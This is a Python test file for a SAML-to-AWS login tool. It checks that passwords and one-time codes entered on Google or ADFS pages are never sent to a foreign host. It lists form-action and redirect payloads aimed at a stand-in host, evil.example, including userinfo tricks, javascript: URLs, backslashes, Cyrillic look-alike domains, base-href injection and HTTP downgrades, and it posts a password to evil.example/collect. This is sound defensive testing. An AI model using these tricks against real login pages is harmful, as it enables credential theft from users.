"""Pages that want what a person answers sent elsewhere, by the real login over real sockets.

Every name and every port is found at one server here, which takes whatever comes, with a
certificate that is trusted: what must not arrive would arrive.
"""

from __future__ import annotations

import re
import socket
from collections.abc import Callable, Iterator
from dataclasses import replace
from html import escape, unescape
from pathlib import Path
from urllib.parse import quote_plus

import pytest

from samlauth.effects.http import Http
from samlauth.flow import Request as Sent
from samlauth.reach import Origin, Reach
from samlauth.sandbox.web import Request, Response
from tests.e2e.faultserver import HEALTHY, Tamper
from tests.e2e.signing import Came
from tests.e2e.test_network_faults import Scene

EVIL = "evil.example"

ACTIONS = {
    "another host": f"https://{EVIL}/collect",
    "another host without a scheme": f"//{EVIL}/collect",
    "a host after a user name": f"https://HOST@{EVIL}/",
    "a user name before the right host": f"https://{EVIL}@HOST/",
    "a longer host": f"https://HOST.{EVIL}/",
    "no TLS": "http://HOST/signin",
    "no TLS, elsewhere": f"http://{EVIL}/collect",
    "another port": "https://HOST:8443/signin",
    "a script": f"javascript:location='https://{EVIL}/'",
    "data": "data:text/html,<form>",
    "another protocol": f"ftp://{EVIL}/",
    "backslashes": f"\\\\{EVIL}\\collect",
    "a backslash after a slash": f"/\\{EVIL}/collect",
    "a backslash before the right host": f"https://{EVIL}\\@HOST/",
    "a tab inside": f"https://HOST\t.{EVIL}/",
    "a line break inside": f"https://HOST\n@{EVIL}/",
    "a look-alike in another alphabet": "https://TWIN/",
    "its punycode": "https://PUNY/",
    "an address that cannot be read": "https://[HOST/",
}
# The first "c" of accounts and the "a" of adfs, in Cyrillic.
TWINS = {
    "accounts.google.com": "a\u0441counts.google.com",
    "adfs.example.com": "\u0430dfs.example.com",
}


@pytest.fixture(scope="module", params=["google", "adfs"])
def scene(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Scene]:
    scene = Scene(request.param, tmp_path_factory.mktemp("pages"))
    with scene.server:
        yield scene


@pytest.fixture(autouse=True)
def everywhere(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    """Have every host be there, whatever its name and port."""
    found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", scene.server.port))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *_: found)


def host_of(scene: Scene) -> str:
    return "accounts.google.com" if scene.rehearsal.idp == "google" else "adfs.example.com"


def password_of(scene: Scene) -> bytes:
    """What marks the page that asks for it."""
    return b'name="Passwd"' if scene.rehearsal.idp == "google" else b'name="Password"'


def code_of(scene: Scene) -> bytes:
    return b'name="Pin"' if scene.rehearsal.idp == "google" else b'name="OathCode"'


def come(scene: Scene, tamper: Tamper | None) -> Came:
    scene.server.tamper = tamper
    try:
        return scene.come(HEALTHY, 0, direct=True)
    finally:
        scene.server.tamper = None


def spelled(action: str, host: str) -> str:
    twin = TWINS[host]
    puny = twin.encode("idna").decode("ascii")
    return action.replace("TWIN", twin).replace("PUNY", puny).replace("HOST", host)


def leading(marker: bytes, action: Callable[[str], str], head: str = "") -> Tamper:
    """Has the forms of the pages with the marker lead elsewhere."""

    def led(form: str) -> str:
        found = re.search(' action="([^"]*)"', form)
        was = unescape(found[1]) if found else ""
        bare = form.replace(found[0], "") if found else form
        return f'{bare[:-1]} action="{escape(action(was))}">'

    def tamper(_: Request, response: Response) -> Response:
        if marker not in response.body:
            return response
        page = response.body.decode()
        changed, number = re.subn("<form[^>]*>", lambda form: led(form[0]), page)
        assert number, page
        return replace(response, body=re.sub("<head[^>]*>", rf"\g<0>{head}", changed).encode())

    return tamper


def assert_nothing_left(scene: Scene, came: Came, secret: str) -> None:
    """It ends as unsafe, and nobody has been sent the secret, in any form, nor anything else."""
    assert came.status == 6, came.printed
    assert came.error is not None
    assert came.error.message
    assert came.error.hint
    assert bytes(scene.server.stranger) == b""
    assert scene.server.strangers == set()
    forms = {secret.encode(), quote_plus(secret).encode()}
    assert not any(form in seen.body for form in forms for seen in scene.server.seen)
    assert secret not in came.printed


def test_what_is_sent_to_a_stranger_would_be_counted(scene: Scene, tmp_path: Path) -> None:
    scene.server.begin()
    bundle = scene.server.write(tmp_path / "ca.pem")
    http = Http({"AWS_CA_BUNDLE": str(bundle)}, hide=lambda _: None)
    for origin in (Origin(EVIL), Origin(EVIL, 8443), Origin("xn--dfs-7cd.example.com")):
        form = (("Password", f"sent to {origin.port}"),)
        page = http.send(Sent(f"{origin}/collect", form, "password", reach=Reach(origin)))
        assert page.body == "thanks"
    http.close()
    assert scene.server.stranger.count(b"Password=sent+to+") == 3
    with socket.create_connection(("127.0.0.1", scene.server.port)) as plain:
        plain.sendall(b"POST /collect HTTP/1.1\r\nHost: x\r\n\r\nPassword=unencrypted\r\n\r\n")
        assert plain.recv(100).startswith(b"HTTP/1.1 200")
    assert b"POST /collect" in scene.server.stranger


@pytest.mark.parametrize("head", ["", f'<base href="https://{EVIL}/">'], ids=["", "base"])
@pytest.mark.parametrize("action", ACTIONS)
def test_a_form_for_the_password_that_leads_away(action: str, head: str, scene: Scene) -> None:
    where = spelled(ACTIONS[action], host_of(scene))
    came = come(scene, leading(password_of(scene), lambda _: where, head))
    assert_nothing_left(scene, came, scene.rehearsal.password)


@pytest.mark.parametrize("action", ["another host", "a longer host", "no TLS", "its punycode"])
def test_a_form_for_the_code_that_leads_away(action: str, scene: Scene) -> None:
    where = spelled(ACTIONS[action], host_of(scene))
    came = come(scene, leading(code_of(scene), lambda _: where))
    assert_nothing_left(scene, came, scene.rehearsal.code())
    assert scene.server.posts_of(scene.rehearsal.password) == 1


@pytest.mark.parametrize("action", ["another host", "no TLS", "a longer host"])
def test_a_response_for_somebody_else_is_not_taken_to_aws(action: str, scene: Scene) -> None:
    where = ACTIONS[action].replace("HOST", "signin.aws.amazon.com")
    came = come(scene, leading(b"SAMLResponse", lambda _: where))
    assert came.status == 6, came.printed
    assert scene.server.strangers == set()
    assert not any("sts." in seen.host for seen in scene.server.seen)


@pytest.mark.parametrize("shape", ["as it is", "without the host", "without the scheme"])
def test_the_page_s_own_address_counts_and_its_base_does_not(shape: str, scene: Scene) -> None:
    def same(action: str) -> str:
        path = re.sub(r"^https://[^/]*", "", action)
        host = f"//{host_of(scene)}"
        return {"as it is": action, "without the host": path, "without the scheme": host + path}[
            shape
        ]

    came = come(scene, leading(password_of(scene), same, f'<base href="https://{EVIL}/x/">'))
    assert came.status == 0, came.printed
    assert scene.server.strangers == set()
    assert scene.server.posts_of(scene.rehearsal.password) == 1


def answering(status: int, location: str, scene: Scene) -> Tamper:
    """Redirects what the password was posted to."""
    word = quote_plus(scene.rehearsal.password).encode()

    def tamper(request: Request, response: Response) -> Response:
        return (
            Response(status, b"", (("Location", location),)) if word in request.body else response
        )

    return tamper


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize(
    "target", [f"https://{EVIL}/?x", "https://HOST/again", "http://HOST/again"]
)
def test_a_redirect_of_the_password(status: int, target: str, scene: Scene) -> None:
    location = spelled(target, host_of(scene))
    came = come(scene, answering(status, location, scene))
    assert came.status != 0
    assert came.status in {4, 6, 9}
    assert scene.server.posts_of(scene.rehearsal.password) == 1
    assert scene.server.strangers == set()
    again = [seen for seen in scene.server.seen if seen.path == "/again"]
    assert [seen.method for seen in again] == (
        ["GET"] if status < 304 and target == "https://HOST/again" else []
    )
    assert not any(seen.body for seen in again)


def test_redirects_without_end(scene: Scene) -> None:
    here = f"https://{host_of(scene)}/round"

    def tamper(_: Request, __: Response) -> Response:
        return Response(302, b"", (("Location", here),))

    came = come(scene, tamper)
    assert came.status == 9
    assert len(scene.server.seen) == 11
